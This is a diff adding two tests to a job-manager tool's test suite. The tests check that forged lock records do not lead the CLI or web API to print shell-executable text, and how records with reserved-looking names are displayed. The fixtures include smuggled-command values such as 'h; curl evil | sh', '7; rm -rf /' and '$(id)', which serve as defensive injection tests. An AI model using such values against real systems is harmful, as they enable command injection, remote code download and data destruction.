@@ -378,3 +378,61 @@ test("ojm doctor names damaged entries of any name, and its command removes them
   expect(refused).toMatchObject({ code: 2, err: expect.stringContaining("is not damaged: nothing was done") });
   expect((await manager.locks()).map(({ name }) => name)).toContain("well-running");
 });
+
+test("a forged note of ojm exec makes no command print a pid or a text that a shell would obey", async () => {
+  const { folder, manager, ui } = await healthy();
+  const locks = manager.channels.locks as Channel<unknown>;
+  const evil = "h; curl evil | sh";
+  const elsewhere = { host: "other-host", boot: "b", namespace: "n", started: "1" };
+  const notes = [
+    { ...elsewhere, pid: 1 },
+    { ...elsewhere, pid: 0 },
+    { ...elsewhere, pid: -7 },
+    { ...elsewhere, pid: "7; rm -rf /" },
+    { ...elsewhere, pid: 1.5 },
+    { ...elsewhere, pid: 77, host: evil },
+    { ...elsewhere, pid: 77, host: "$(id)" },
+    { ...identityOf(process.pid), pid: 1 },
+  ];
+  for (const [i, note] of notes.entries()) {
+    const run = `forged-${i}@${new Date(5).toISOString()}`;
+    await locks.set(["exec", `forged-${i}`], { ...note, run });
+    // And one under the name of another job.
+    await locks.set(["exec", `other-${i}`], { ...elsewhere, pid: 77, run });
+  }
+  await locks.set(["exec", "real"], { ...elsewhere, pid: 77, run: `real@${new Date(5).toISOString()}` });
+  let said = "";
+  for (const words of [["doctor"], ["ps"], ["why", "real"], ["locks"], ["jobs"]]) {
+    const { out, err } = await called(folder, [...words, "--store", "sqlite:ojm.db"]);
+    said += out + err;
+  }
+  const headers = { Host: "localhost:7717" };
+  said += await (await ui.fetch(new Request("http://localhost:7717/api/v1/now", { headers }))).text();
+  expect(said).toContain("ps -o pid,etime,args -p 77");
+  expect(said).not.toMatch(/kill -TERM -- -?[01-]?\b(?!\d)|-p [01]\b|-- --/);
+  expect(said).not.toContain("curl evil");
+  expect(said).not.toMatch(/on \$\(id\)/);
+});
+
+test("a record whose name begins like those of ojm itself is hidden nowhere, and those of ojm are", async () => {
+  const { folder, manager, ui } = await healthy();
+  const [done] = await collect(manager.history({ name: "well-failed" }));
+  for (const name of ["ojm evil", "ojm alerts"]) {
+    const at = { name, startTime: Date.now() };
+    const record = { ...done, ...at, id: `${name}@${new Date(at.startTime).toISOString()}` };
+    await (manager.channels.jobs as Channel<unknown>).set(at, record);
+    await (await channelOf(manager, "oJobManager-times")).set([at.startTime, name], 0);
+  }
+  for (const words of [["runs"], ["runs", "--by-name"], ["jobs"]]) {
+    const { out } = await called(folder, [...words, "--store", "sqlite:ojm.db"]);
+    expect(out).toContain("ojm evil");
+    expect(out).not.toContain("ojm alerts");
+  }
+  for (const path of ["jobs", "runs"]) {
+    const headers = { Host: "localhost:7717" };
+    const answer = await ui.fetch(new Request(`http://localhost:7717/api/v1/${path}`, { headers }));
+    const text = await answer.text();
+    expect(text).toContain("ojm evil");
+    expect(text).not.toContain("ojm alerts");
+  }
+});
